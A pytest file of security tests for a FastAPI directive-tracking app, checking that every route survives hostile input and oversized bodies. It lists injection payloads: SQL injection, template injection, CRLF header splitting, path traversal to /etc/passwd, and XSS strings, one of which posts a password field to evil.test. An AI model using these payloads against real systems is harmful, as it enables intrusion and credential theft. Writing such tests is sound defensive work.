"""Every route of the pages takes whatever is sent in any field, and any length of it, without an error of ours."""

import contextlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import quote, urlsplit

import httpx2
import pytest
from builders import a_deadline
from fastapi import FastAPI
from office_fixture import Desk
from signed_in import HOST, a_session, browsing
from starlette.types import ASGIApp
from temporalio.client import Client

from database.engine import writing
from models import commands as c
from models.directive import SourceDocument
from models.directory import Agency, Person, Post
from models.tables import NOTICE
from models.vocabulary import Position
from services import tokens
from services.audit import note
from services.directory_editing import add_agency, add_person
from services.saved_views import save_view
from web.app import Surroundings, create_app
from web.bodies import LARGEST_FORM

NOT_TRIED: Final = ("/live", "/readyz", "/sign-out")
"""An answer without end, one that says 503 while Temporal is away, and the end of the session."""
MEGABYTE: Final = 1024 * 1024

HOSTILE: Final = {
    "statements": "' OR '1'='1' --); DROP TABLE ledger; -- ' UNION SELECT password FROM account --",
    "signs": "%_\\%%__ {{ 7 * 7 }}${7*7}{% raw %} ../../../../etc/passwd",
    "NUL": "a\x00b",
    "half a pair": "\ud800",
    "line breaks": "a\r\nSet-Cookie: x=1\r\n\r\n",
    "another site": "//evil.test/\\evil.test",
    "a great number": "9" * 400,
    "a number without end": "9" * 5_000,
    "no figure": "²",
    "a negative number": "-1",
    "letters": "ệ" * 3_000 + "a" + "\u0301" * 1_000 + "\u202e\u2066\ufeff\u200b",
}

PAYLOADS: Final = (
    "<script data-hostile>alert(1)</script>",
    "<img data-hostile src=x onerror=alert(1)>",
    "<svg data-hostile onload=alert(1)><title>x</title></svg>",
    '"><b data-hostile onmouseover="alert(1)">',
    "' data-hostile onfocus='alert(1)' autofocus x='",
    "`data-hostile onfocus=alert(1)`",
    "</textarea><i data-hostile></i>",
    "</title></style></script><i data-hostile></i>",
    "<!--><i data-hostile></i>-->",
    "<a data-hostile href=javascript:alert(1)>x</a>",
    "<iframe data-hostile srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext data-hostile></mtext></math>",
    "<form data-hostile action=//evil.test><input name=password></form>",
    "<base data-hostile href=//evil.test>",
    "<meta data-hostile http-equiv=refresh content='0;url=//evil.test'>",
    "<<i data-hostile>i>",
    "\x3ci data-hostile\x3e",
    "&lt;i data-hostile&gt;&#60;i data-hostile&#62;",
    "]]><i data-hostile></i>",
    "{{ '<i data-hostile>' | safe }}",
)
ALL_PAYLOADS: Final = " ".join(PAYLOADS)


async def no_temporal() -> Client:
    raise RuntimeError("connection refused")


@dataclass(frozen=True)
class Route:
    """One route of the pages: how it is called and which fields it reads."""

    method: str
    path: str
    fields: tuple[str, ...]


def routes_of(app: ASGIApp) -> list[Route]:
    """Every route of the pages with the fields that its signature names."""
    while not isinstance(app, FastAPI):
        app = app.app  # type: ignore[attr-defined]  # what is wrapped around it
    found: list[Route] = []

    def walk(routes: Any) -> None:
        for route in routes:
            walk(getattr(getattr(route, "original_router", None), "routes", ()))
            if (dependant := getattr(route, "dependant", None)) is not None:
                fields = tuple(one.alias for one in (*dependant.query_params, *dependant.body_params))
                found.extend(Route(method, route.path, fields) for method in route.methods)

    walk(app.router.routes)
    return [route for route in found if route.path not in NOT_TRIED]


READ_BY_HAND: Final = (
    *("text", "page", "sort", "order", "columns", "status", "agency", "field", "leader", "kind", "id", "next"),
)
"""Fields of routes that read their query or form themselves."""


@pytest.fixture
def app(desk: Desk) -> ASGIApp:
    desk.register("NV-1", "Wed 2026-03-04 09:00", deadline=a_deadline("2026-03-17"))
    desk.time_is("Wed 2026-03-18 09:00")
    return create_app(desk.office, no_temporal, Surroundings(base_url=HOST, data_dir=desk.data))


def filled(path: str, value: str) -> str:
    """A path with this in each of its holes."""
    hole = quote(value, safe="", errors="surrogatepass")
    return "/".join(hole if part.startswith("{") else part for part in path.split("/"))


@pytest.mark.parametrize("name", HOSTILE)
async def test_nothing_that_is_sent_in_any_field_of_any_route_is_an_error_of_ours(
    app: ASGIApp, desk: Desk, name: str
) -> None:
    assert await _broken_by(app, desk, HOSTILE[name]) == []


async def _broken_by(app: ASGIApp, desk: Desk, value: str) -> list[tuple[str, str, int]]:
    encoded, broken = quote(value, safe="", errors="surrogatepass"), []
    sessions = {person: a_session(desk.office, person) for person in ("quantri", "vanthu")}
    transport = httpx2.ASGITransport(app)
    async with httpx2.AsyncClient(transport=transport, base_url=HOST, headers={"Origin": HOST}) as browser:
        for route in routes_of(app):
            browser.cookies.clear()
            cookie = {"Cookie": f"dondoc={sessions['quantri' if route.path.startswith('/admin') else 'vanthu']}"}
            given = "&".join(f"{one}={encoded}" for one in (*route.fields, *READ_BY_HAND))
            headers = {**cookie, "Content-Type": "application/x-www-form-urlencoded"}
            for path in {filled(route.path, value), filled(route.path, "NV-1")}:
                with contextlib.suppress(httpx2.InvalidURL):
                    answer = await browser.request(route.method, f"{path}?{given}", content=given, headers=headers)
                    unsplit = all("\n" not in text and "\r" not in text for text in answer.headers.values())
                    elsewhere = urlsplit(answer.headers.get("location", "")).netloc
                    if answer.status_code >= 500 or not unsplit or elsewhere or "root:" in answer.text:
                        broken.append((route.method, path[:60], answer.status_code))
    return broken


class Marked(HTMLParser):
    """Finds elements and attributes that only a payload can have made."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for attribute, value in attrs:
            script = (value or "").strip().lower().startswith("javascript:")
            if attribute == "data-hostile" or attribute.startswith("on") or script:
                self.found.append(f"<{tag} {attribute}={value}>")


@pytest.fixture
def poisoned(desk: Desk) -> Desk:
    """An office in which every text that people can write holds all payloads."""
    payload, office = ALL_PAYLOADS, desk.office
    short = PAYLOADS[1]
    document = SourceDocument(number=PAYLOADS[4], type=short, abstract=payload, signer=PAYLOADS[2])
    add_agency(office, Agency(code="xss", name=PAYLOADS[0], kind="body", aliases=(PAYLOADS[3], short)), "")
    post = Post(person="xss", agency="SYT", position=Position.OFFICER)
    add_person(office, Person(code="xss", name=PAYLOADS[1]), (post,), "")
    desk.register(
        "NV-1",
        "Wed 2026-03-04 09:00",
        content=payload,
        document=document,
        deadline=a_deadline("2026-03-17"),
        coordinating_agencies=("xss",),
    )
    desk.act("NV-1", c.ReportProgress(text=payload, percent=10), "xss", "Wed 2026-03-04 10:00")
    desk.act("NV-1", c.Comment(text=payload), "vanthu", "Wed 2026-03-04 11:00")
    extension = c.RequestExtension(deadline=a_deadline("2026-03-30"), reason=payload)
    desk.act("NV-1", extension, "xss", "Wed 2026-03-04 12:00")
    desk.act("NV-1", c.DemandExplanation(text=payload), "chutich", "Wed 2026-03-04 13:00")
    desk.tell("NV-1", "Mon 2026-03-16 08:00")
    desk.time_is("Wed 2026-03-18 09:00")
    for person in ("vanthu", "truong.syt", "quantri"):
        with writing(office.engine) as connection:
            save_view(connection, person, PAYLOADS[3], f"text={quote(payload)}", office.now())
        tokens.create(office, person, short, ("read",))
    with writing(office.engine) as connection:
        note(connection, "vanthu", short, payload, office.now(), {short: payload})
        assert connection.execute(NOTICE.select()).first() is not None
    return desk


@pytest.mark.parametrize("person", ["quantri", "vanthu", "truong.syt"])
async def test_what_people_wrote_makes_no_element_and_no_attribute_on_any_page(poisoned: Desk, person: str) -> None:
    app = create_app(poisoned.office, no_temporal, Surroundings(base_url=HOST, data_dir=poisoned.data))
    shown, made = 0, []
    async with browsing(app, poisoned.office, person) as browser:
        for route in routes_of(app):
            if route.method != "GET" or route.path.endswith((".xlsx", ".csv")):
                continue
            query = "&".join(f"{name}={quote(ALL_PAYLOADS)}" for name in (*route.fields, "text"))
            for path in {route.path.replace("{code:path}", code).replace("{code}", code) for code in ("NV-1", "xss")}:
                for address in (path, f"{path}?{query}"):
                    answer = await browser.get(address)
                    if not answer.headers.get("content-type", "").startswith("text/html"):
                        continue
                    page = Marked()
                    page.feed(answer.text)
                    made += [(address[:60], one) for one in page.found]
                    shown += "data-hostile" in answer.text

    assert made == []
    assert shown > 10, "the payloads stand on the pages, as text"


async def sent(browser: httpx2.AsyncClient, path: str, megabytes: int, *, told: bool) -> int:
    """Send a form of so many megabytes, with its length in the head or in pieces without it."""
    size = megabytes * MEGABYTE

    async def pieces() -> AsyncIterator[bytes]:
        for _ in range(megabytes):
            yield b"a" * MEGABYTE

    headers = {"Content-Type": "application/x-www-form-urlencoded", **({"Content-Length": str(size)} if told else {})}
    return (await browser.post(path, content=pieces(), headers=headers)).status_code


@pytest.mark.parametrize("told", [True, False], ids=["its length is told", "it comes in pieces"])
async def test_a_body_far_too_large_is_cut_off_on_every_route(app: ASGIApp, desk: Desk, told: bool) -> None:
    megabytes = 40 if told else LARGEST_FORM // MEGABYTE + 1
    async with browsing(app, desk.office, "truong.syt") as browser:
        for path in ("/sign-in", "/forgotten", "/password", "/language", "/preferences/digest", "/admin/people/x"):
            assert await sent(browser, path, megabytes, told=told) in (400, 404, 413), path


async def test_what_may_be_larger_still_is(app: ASGIApp, desk: Desk) -> None:
    async with browsing(app, desk.office, "truong.syt") as browser:
        assert await sent(browser, "/directives/NV-1/do", 12, told=True) != 413
        _, secret = tokens.create(desk.office, "vanthu", "x", ("write",))
        given = {"Authorization": f"Bearer {secret}", "Content-Type": "application/octet-stream"}
        answer = await browser.post("/api/v1/imports", content=b"a" * 12 * MEGABYTE, headers=given)
        assert answer.status_code == 415, "the API bounds its own, and says first that it takes no such thing"
        file = {"file": ("a.xlsx", b"a" * 12 * MEGABYTE)}
        answer = await browser.post("/api/v1/imports", files=file, headers={"Authorization": f"Bearer {secret}"})
        assert answer.status_code not in (413, 500)


async def test_thousands_of_filters_are_answered_and_so_is_a_page_far_beyond_the_last(app: ASGIApp, desk: Desk) -> None:
    many = "&".join(["status=overdue&agency=SYT"] * 2_000)  # 50,000 letters: uvicorn takes 64 KB of head in all
    async with browsing(app, desk.office, "vanthu") as browser:
        for query in (many, "page=1000000000", "page=99999999999999999999999999", "page=-1", "page=1e9"):
            assert (await browser.get(f"/directives?{query}")).status_code in (200, 400, 409, 414, 422)


async def test_no_path_leads_out_of_what_pages_load(app: ASGIApp, desk: Desk) -> None:
    async with browsing(app, desk.office, "vanthu") as browser:
        for path in (
            "../app.py",
            "%2e%2e/app.py",
            "..%2fapp.py",
            "/etc/passwd",
            "%2fetc%2fpasswd",
            "%00",
            "..%5capp.py",
        ):
            answer = await browser.get(f"/static/{path}")
            assert answer.status_code in (400, 404), path
            assert "import" not in answer.text
